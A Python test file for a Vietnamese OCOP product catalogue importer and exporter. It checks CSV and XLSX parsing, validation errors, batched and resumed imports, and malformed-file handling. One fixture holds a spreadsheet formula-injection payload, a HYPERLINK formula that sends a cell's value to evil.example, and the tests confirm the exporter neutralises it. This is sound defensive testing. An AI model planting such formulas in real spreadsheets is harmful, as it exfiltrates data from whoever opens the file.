"""Catalogue import and export, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import threading
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlmodel import select

from handlers.catalog_admin import explain
from handlers.i18n import translator
from models import catalog_import
from models.catalog import Producer, Product, bump_catalog_version, catalog_version
from models.catalog_export import COLUMNS, product_rows
from models.catalog_import import MAX_ROWS, ImportFileError, ImportReport, import_data, import_file, import_rows
from models.db import Database
from models.tabular import Row, UnreadableFile, neutralise, read_bytes, unneutralise, write_csv, write_xlsx

TODAY = date(2026, 11, 27)
HEADER = "STT,Tên sản phẩm,Chủ thể,Loại hình chủ thể,Địa chỉ,Tỉnh/Thành phố,Nhóm sản phẩm,Số sao,Số quyết định,Ngày quyết định"
MIXED = f"""{HEADER}
1,Chè búp Tân Cương,HTX Chè Hảo Đạt,Hợp tác xã,"xã Tân Cương, TP Thái Nguyên, tỉnh Thái Nguyên",Thái Nguyên,Đồ uống,4,123/QĐ-UBND,15/03/2023
2,Mật ong bạc hà Mèo Vạc,HTX Mật ong Mèo Vạc,,"thị trấn Mèo Vạc, huyện Mèo Vạc, tỉnh Hà Giang",Hà Giang,Thực phẩm,4 sao,45/QĐ-UBND,02/11/2022
3,Sản phẩm sai tỉnh,Hộ kinh doanh A,Hộ kinh doanh,"xã X, tỉnh Atlantis",Atlantis,Thực phẩm,3,1/QĐ-UBND,01/01/2024
4,Sản phẩm hai sao,Hộ kinh doanh B,Hộ kinh doanh,"xã Y, tỉnh Nghệ An",Nghệ An,Thực phẩm,2,1/QĐ-UBND,01/01/2024
5,Sản phẩm ngày sai,Hộ kinh doanh C,Hộ kinh doanh,"xã Z, tỉnh Nghệ An",Nghệ An,Thực phẩm,3,1/QĐ-UBND,31/02/2024
6,,Hộ kinh doanh D,Hộ kinh doanh,"xã Z, tỉnh Nghệ An",Nghệ An,Thực phẩm,3,1/QĐ-UBND,01/01/2024
7,Gạo ST25,Hộ kinh doanh E,Hộ kinh doanh,"xã Z",dn,Thực phẩm,3,1/QĐ-UBND,01/01/2024
8,Gốm men lam,Công ty TNHH Gốm Việt,Doanh nghiệp,"xã Bát Tràng, thành phố Hà Nội",Hà Nội,Lưu niệm - nội thất - trang trí,5,99/QĐ-BNN,01/06/2024
9,Rượu tương lai,Hộ kinh doanh F,Hộ kinh doanh,"xã Z, tỉnh Nghệ An",Nghệ An,Đồ uống,3,1/QĐ-UBND,01/01/2030
10,Chè búp Tân Cương,HTX Chè Hảo Đạt,Hợp tác xã,"xã Tân Cương, TP Thái Nguyên, tỉnh Thái Nguyên",Thái Nguyên,Đồ uống,4,123/QĐ-UBND,15/03/2023
11,Bánh pía,Cơ sở Tân Huê Viên,Cửa hàng,"phường 5, tỉnh Sóc Trăng",Sóc Trăng,Thực phẩm,3,7/QĐ-UBND,01/01/2024
12,Máy cày,Hộ kinh doanh G,Hộ kinh doanh,"xã Z, tỉnh Nghệ An",Nghệ An,Cơ khí,3,1/QĐ-UBND,01/01/2024
"""


def write(tmp_path: Path, text: str, name: str = "list.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


async def test_mixed_file_imports_good_rows_and_names_each_bad_one(db: Database, tmp_path: Path) -> None:
    report = await import_file(db, write(tmp_path, MIXED), today=TODAY)
    reasons = {error.line: (error.problem.code, error.problem.params) for error in report.errors}
    assert report.rows == 12
    assert report.products_created == 3
    assert set(reasons) == {4, 5, 6, 7, 8, 10, 11, 12, 13}
    assert reasons[4] == ("unknown_place", {"column": "province", "value": "Atlantis"})
    assert reasons[5] == ("stars_range", {"stars": 2})
    assert reasons[6] == ("bad_date", {"value": "31/02/2024"})
    assert reasons[7] == ("missing_name", {})
    assert reasons[8][0] == "ambiguous_place" and "Đồng Nai" in str(reasons[8][1]["candidates"])
    assert reasons[10] == ("future_date", {"date": "01/01/2030"})
    assert reasons[11] == ("duplicate", {"first_line": 2})
    assert reasons[12] == ("bad_kind", {"value": "Cửa hàng"})
    assert reasons[13] == ("bad_group", {"value": "Cơ khí"})

    async with db.session() as session:
        products = {p.name: p for p in (await session.exec(select(Product))).all()}
        producers = {p.name: p for p in (await session.exec(select(Producer))).all()}
        assert await catalog_version(session) == 1
    assert set(products) == {"Chè búp Tân Cương", "Mật ong bạc hà Mèo Vạc", "Gốm men lam"}
    honey = producers["HTX Mật ong Mèo Vạc"]
    assert (honey.province, honey.old_province, honey.kind) == ("Tuyên Quang", "Hà Giang", "cooperative")
    assert honey.ward == "thị trấn Mèo Vạc"
    tea = producers["HTX Chè Hảo Đạt"]
    assert (tea.province, tea.old_province) == ("Thái Nguyên", "Thái Nguyên")  # old-style address: pre-merger
    pottery = products["Gốm men lam"]
    assert (pottery.group, pottery.stars, pottery.decision_date) == (4, 5, date(2024, 6, 1))
    assert pottery.expires_on == date(2027, 6, 1)
    assert producers["Công ty TNHH Gốm Việt"].old_province == "Hà Nội"


async def test_reimport_changes_nothing(db: Database, tmp_path: Path) -> None:
    path = write(tmp_path, MIXED)
    await import_file(db, path, today=TODAY)
    again = await import_file(db, path, today=TODAY)
    assert (again.products_created, again.products_updated, again.products_unchanged) == (0, 0, 3)
    assert again.producers_created == again.producers_updated == 0
    async with db.session() as session:
        assert await catalog_version(session) == 1
        assert len((await session.exec(select(Product))).all()) == 3


async def test_changed_row_updates_in_place(db: Database, tmp_path: Path) -> None:
    await import_file(db, write(tmp_path, MIXED), today=TODAY)
    edited = MIXED.replace("Lưu niệm - nội thất - trang trí,5", "Hàng thủ công mỹ nghệ,4")
    report = await import_file(db, write(tmp_path, edited, "edited.csv"), today=TODAY)
    assert (report.products_created, report.products_updated) == (0, 1)
    async with db.session() as session:
        pottery = (await session.exec(select(Product).where(Product.name == "Gốm men lam"))).one()
        assert pottery.stars == 4


async def test_dry_run_writes_nothing(db: Database, tmp_path: Path) -> None:
    report = await import_file(db, write(tmp_path, MIXED), dry_run=True, today=TODAY)
    assert report.dry_run and report.products_created == 3 and len(report.errors) == 9
    async with db.session() as session:
        assert (await session.exec(select(Product))).all() == []
        assert await catalog_version(session) == 0


async def test_xlsx_with_title_rows_unaccented_shuffled_headers(db: Database, tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["DANH SÁCH SẢN PHẨM OCOP NĂM 2024"])
    sheet.append([])
    sheet.append(["so sao", "TEN SAN PHAM", "chu the", "nhom san pham", "dia chi", "Ngay QD", "tiem nang 5 sao"])
    sheet.append([4, "Nước mắm Phú Quốc 40 độ đạm", "Công ty Khải Hoàn", "Thực phẩm",
                  "phường Dương Đông, TP Phú Quốc, tỉnh Kiên Giang", date(2023, 5, 4), "x"])
    sheet.append(["3", "Trà mãng cầu", "HTX Tân Lập", "Đồ uống", "xã Tân Lập, tỉnh Tây Ninh", 45200, ""])
    path = tmp_path / "list.xlsx"
    workbook.save(path)
    report = await import_file(db, path, today=TODAY)
    assert report.errors == []
    assert report.products_created == 2
    async with db.session() as session:
        rows = (await session.exec(select(Product, Producer).join(Producer).order_by(Product.name))).all()
    fish, tea = (rows[0], rows[1]) if rows[0][0].name.startswith("N") else (rows[1], rows[0])
    assert fish[1].province == "An Giang" and fish[1].old_province == "Kiên Giang"
    assert fish[0].potential_5 and fish[0].decision_date == date(2023, 5, 4)
    assert tea[1].province == "Tây Ninh" and tea[1].old_province is None  # new-style address: not known
    assert tea[0].decision_date == date(2023, 10, 1)  # Excel serial day 45200


async def test_semicolon_and_windows_1258_csv(sqlite_db: Database, tmp_path: Path) -> None:
    text = "Ten san pham;Chu the;Tinh;Nhom;So sao\nBanh da Ke;HTX Ke;Bac Giang;Thuc pham;3\n"
    path = tmp_path / "list.csv"
    path.write_bytes(text.encode("cp1258"))
    report = await import_file(sqlite_db, path, today=TODAY)
    assert report.errors == [] and report.products_created == 1


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("empty.csv", b"", "empty"),
        ("blank.csv", b"\n\n  \n", "empty"),
        ("photo.xlsx", b"\x89PNG\r\n\x1a\n\x00\x00", "not_spreadsheet"),
        ("broken.xlsx", b"PK\x03\x04garbage", "unreadable_xlsx"),
    ],
)
async def test_unreadable_files_get_a_clear_error(
    sqlite_db: Database, tmp_path: Path, name: str, content: bytes, message: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(UnreadableFile) as raised:
        await import_file(sqlite_db, path, today=TODAY)
    assert raised.value.code == message


async def test_file_without_required_headers(sqlite_db: Database, tmp_path: Path) -> None:
    with pytest.raises(ImportFileError) as raised:
        await import_file(sqlite_db, write(tmp_path, "Tên sản phẩm,Chủ thể,Tỉnh,Nhóm\nA,B,Hà Nội,1\n"), today=TODAY)
    assert (raised.value.code, raised.value.params["columns"]) == ("no_header", ("stars",))


async def test_missing_file(sqlite_db: Database, tmp_path: Path) -> None:
    with pytest.raises(UnreadableFile) as raised:
        await import_file(sqlite_db, tmp_path / "nope.csv", today=TODAY)
    assert raised.value.code == "no_such_file"


async def test_export_imports_back_unchanged(db: Database, tmp_path: Path) -> None:
    await import_file(db, write(tmp_path, MIXED), today=TODAY)
    rows = await product_rows(db)
    buffer = io.StringIO()
    write_csv(COLUMNS, rows, buffer)
    exported = write(tmp_path, buffer.getvalue(), "export.csv")

    again = await import_file(db, exported, today=TODAY)
    assert again.errors == []
    assert (again.products_created, again.products_updated, again.products_unchanged) == (0, 0, 3)
    assert again.producers_updated == 0

    header = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert header[:11] == ["id", "name", "producer", "producer_kind", "address", "ward", "province",
                           "old_province", "region", "group", "group_name"]
    assert {"stars", "decision_no", "decision_date"} <= set(header)


# -- Batches, limits, hostile files -------------------------------------------------------------------------------

ONE_PRODUCER = """Tên sản phẩm,Chủ thể,Tỉnh,Nhóm sản phẩm,Số sao,Điện thoại
Chè búp,HTX Chè Hảo Đạt,Thái Nguyên,Đồ uống,4,0900 000 222
Chè xanh,HTX Chè Hảo Đạt,Thái Nguyên,Đồ uống,4,0900 000 999
Mật ong,HTX Mật ong Mèo Vạc,Hà Giang,Thực phẩm,3,0900 000 111
"""


class ThreadsSeen:
    """Rows that note which thread reads them."""

    def __init__(self, rows: list[Row]) -> None:
        self.rows, self.threads = rows, set()

    def __iter__(self) -> Iterator[Row]:
        for row in self.rows:
            self.threads.add(threading.get_ident())
            yield row


async def count_products(db: Database) -> int:
    async with db.session() as session:
        return len((await session.exec(select(Product))).all())


async def test_a_file_is_written_in_batches_each_committed_on_its_own(db: Database) -> None:
    rows = ThreadsSeen(list(read_bytes(MIXED.encode(), "list.csv")))
    seen: list[tuple[int, int]] = []

    async def after_batch(report: ImportReport) -> None:  # no transaction is open here: others can write
        seen.append((report.rows_done, await count_products(db)))
        async with db.transaction() as session:
            await bump_catalog_version(session)

    report = await import_rows(db, rows, today=TODAY, batch_rows=4, after_batch=after_batch)
    assert seen == [(4, 2), (8, 3), (12, 3)]  # data rows read, products committed after each batch
    assert report.products_created == 3 and len(report.errors) == 9
    assert threading.get_ident() not in rows.threads  # parsing ran in worker threads, off the event loop


async def test_an_interrupted_import_completes_when_run_again(db: Database, tmp_path: Path) -> None:
    path = write(tmp_path, ONE_PRODUCER)

    async def crash(report: ImportReport) -> None:
        raise RuntimeError("the process died")

    with pytest.raises(RuntimeError):
        await import_file(db, path, today=TODAY, batch_rows=1, after_batch=crash)
    assert await count_products(db) == 1  # the first batch stays
    again = await import_file(db, path, today=TODAY, batch_rows=1)
    assert (again.products_created, again.products_unchanged, again.producers_created) == (2, 1, 1)
    async with db.session() as session:
        tea = (await session.exec(select(Producer).where(Producer.name == "HTX Chè Hảo Đạt"))).one()
    assert tea.phone == "0900 000 222"  # the producer's first row sets it, as in an import that ran through


async def test_a_resumed_import_reports_like_one_that_ran_through(db: Database, tmp_path: Path) -> None:
    path = write(tmp_path, ONE_PRODUCER)
    progress: list[ImportReport] = []

    async def crash_after_two(report: ImportReport) -> None:
        progress.append(replace(report, errors=[]))
        if report.rows_done == 2:
            raise RuntimeError("the process died")

    with pytest.raises(RuntimeError):
        await import_file(db, path, today=TODAY, batch_rows=1, after_batch=crash_after_two)
    resumed = await import_file(db, path, today=TODAY, batch_rows=1, resume=progress[-1])
    assert (resumed.rows, resumed.rows_done, resumed.products_created, resumed.products_unchanged) == (3, 3, 3, 0)
    assert (resumed.producers_created, resumed.producers_updated) == (2, 0)
    async with db.session() as session:
        assert await catalog_version(session) == 1  # bumped once, at the end: the interrupted run had not yet


async def test_search_indexes_are_told_every_few_batches_and_at_the_end(
    sqlite_db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(catalog_import, "ANNOUNCE_BATCHES", 2)
    versions: list[int] = []

    async def after_batch(report: ImportReport) -> None:
        async with sqlite_db.session() as session:
            versions.append(await catalog_version(session))

    await import_data(sqlite_db, ONE_PRODUCER.encode(), "list.csv", today=TODAY, batch_rows=1, after_batch=after_batch)
    assert versions == [0, 1, 1]  # products created in every batch: told after the second
    async with sqlite_db.session() as session:
        assert await catalog_version(session) == 2  # and once more when the import ended


async def test_a_dry_run_in_batches_counts_like_a_real_run_and_writes_nothing(db: Database, tmp_path: Path) -> None:
    path = write(tmp_path, ONE_PRODUCER)
    dry = await import_file(db, path, today=TODAY, batch_rows=1, dry_run=True)
    assert (dry.products_created, dry.producers_created, dry.producers_updated) == (3, 2, 0)
    assert await count_products(db) == 0
    real = await import_file(db, path, today=TODAY, batch_rows=1)
    assert (real.products_created, real.producers_created, real.producers_updated) == (3, 2, 0)


async def test_a_csv_above_the_row_limit_is_refused_before_anything_is_written(sqlite_db: Database) -> None:
    lines = ["Tên sản phẩm,Chủ thể,Tỉnh,Nhóm sản phẩm,Số sao"]
    lines += [f"Sản phẩm {n},HTX {n},Hà Nội,Thực phẩm,4" for n in range(MAX_ROWS + 1)]
    with pytest.raises(ImportFileError) as raised:
        await import_data(sqlite_db, "\n".join(lines).encode(), "big.csv", today=TODAY)
    assert (raised.value.code, raised.value.params) == ("too_many_rows", {"limit": 100_000})
    assert explain(translator("en"), raised.value) == (
        "the file has more than 100000 data rows; split it into smaller files")
    assert await count_products(sqlite_db) == 0


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def with_part(data: bytes, name: str, content: bytes | None) -> bytes:
    """The XLSX with one part replaced (or removed, for None)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info, source.read(info.filename))
            elif content is not None:
                target.writestr(info, content)
    return out.getvalue()


GOOD_XLSX = xlsx_bytes([["Tên sản phẩm", "Chủ thể", "Tỉnh", "Nhóm sản phẩm", "Số sao"],
                        ["Trà hoa vàng", "HTX Ba Chẽ", "Quảng Ninh", "Đồ uống", 4]])
SHEET = "xl/worksheets/sheet1.xml"
BAD_SHEET = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c'


@pytest.mark.parametrize(
    "data",
    [
        with_part(GOOD_XLSX, SHEET, BAD_SHEET),  # XML cut short: ParseError while reading the rows
        with_part(GOOD_XLSX, "xl/workbook.xml", b"<workbook>"),  # while opening the workbook
        with_part(GOOD_XLSX, "[Content_Types].xml", None),  # no content types: KeyError
        with_part(GOOD_XLSX, SHEET, BAD_SHEET.replace(b'r="1"><c', b'r="99999999"/></sheetData></worksheet>')),
        GOOD_XLSX[: len(GOOD_XLSX) // 2],  # a truncated download
    ],
    ids=["bad sheet xml", "bad workbook xml", "no content types", "row beyond excel", "truncated"],
)
async def test_a_malformed_xlsx_is_an_unreadable_file(sqlite_db: Database, data: bytes) -> None:
    with pytest.raises(UnreadableFile) as raised:
        await import_data(sqlite_db, data, "list.xlsx", today=TODAY)
    assert raised.value.code == "unreadable_xlsx"
    assert explain(translator("vi"), raised.value).startswith("không đọc được tệp XLSX")


async def test_cells_longer_than_their_column_are_row_errors(db: Database) -> None:
    text = (f"Tên sản phẩm,Chủ thể,Tỉnh,Nhóm sản phẩm,Số sao,Điện thoại\n{'Chè ' * 80},HTX A,Hà Nội,Đồ uống,4,\n"
            f"Chè,HTX A,Hà Nội,Đồ uống,4,{'0' * 41}\nChè,{'HTX ' * 80},Hà Nội,Đồ uống,4,\n")
    report = await import_data(db, text.encode(), "long.csv", today=TODAY)
    assert [(e.line, e.problem.code, e.problem.params) for e in report.errors] == [
        (2, "too_long", {"column": "name", "limit": 300}),
        (3, "too_long", {"column": "phone", "limit": 40}),
        (4, "too_long", {"column": "producer", "limit": 300}),
    ]


HOSTILE = """Tên sản phẩm,Chủ thể,Tỉnh,Nhóm sản phẩm,Số sao,Điện thoại,Mô tả,Đơn vị tính
-Bánh đa- nem,@HTX Kế,Bắc Giang,Thực phẩm,3,+84 912 345 678,"=HYPERLINK(""http://evil.example/?p=""&Q2,""x"")",''=1
'Nem' chua,@HTX Kế,Bắc Giang,Thực phẩm,3,+84 912 345 678,,hộp
"""


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_formulas_are_neutralised_and_the_export_imports_back_unchanged(db: Database, fmt: str) -> None:
    report = await import_data(db, HOSTILE.encode(), "hostile.csv", today=TODAY)
    assert report.errors == [] and report.products_created == 2
    rows = await product_rows(db)
    if fmt == "csv":
        buffer = io.StringIO()
        write_csv(COLUMNS, rows, buffer)
        data = buffer.getvalue().encode()
        cells = dict(zip(COLUMNS, next(r for r in csv.reader(io.StringIO(buffer.getvalue())) if r[0] == "1"),
                         strict=True))
    else:
        out = io.BytesIO()
        write_xlsx(COLUMNS, rows, out)
        data = out.getvalue()
        sheet = load_workbook(io.BytesIO(data)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        cells = {str(sheet.cell(1, n).value): sheet.cell(2, n).value for n in range(1, len(COLUMNS) + 1)}
    assert cells["name"] == "'-Bánh đa- nem" and cells["producer"] == "'@HTX Kế"
    assert cells["phone"] == "'+84 912 345 678"
    assert cells["description"] == '\'=HYPERLINK("http://evil.example/?p="&Q2,"x")'
    assert cells["unit"] == "''=1"  # "'=1" in the database: a quote before a formula sign is kept too
    assert cells["stars"] in (3, "3") and cells["id"] in (1, "1")  # numbers are not touched

    again = await import_data(db, data, f"export.{fmt}", today=TODAY)
    assert again.errors == [] and (again.products_unchanged, again.changed) == (2, False)
    async with db.session() as session:
        names = sorted(p.name for p in (await session.exec(select(Product))).all())
        phones = {p.phone for p in (await session.exec(select(Producer))).all()}
    assert names == ["'Nem' chua", "-Bánh đa- nem"] and phones == {"+84 912 345 678"}


@given(st.text(st.characters(blacklist_categories=("Cs",)), max_size=12))
def test_reading_undoes_what_writing_neutralises(text: str) -> None:
    text = ILLEGAL_CHARACTERS_RE.sub("", text).strip()
    assert unneutralise(neutralise(text)) == text
    assert neutralise(text)[:1] not in {"=", "+", "-", "@", "\t", "\r"}
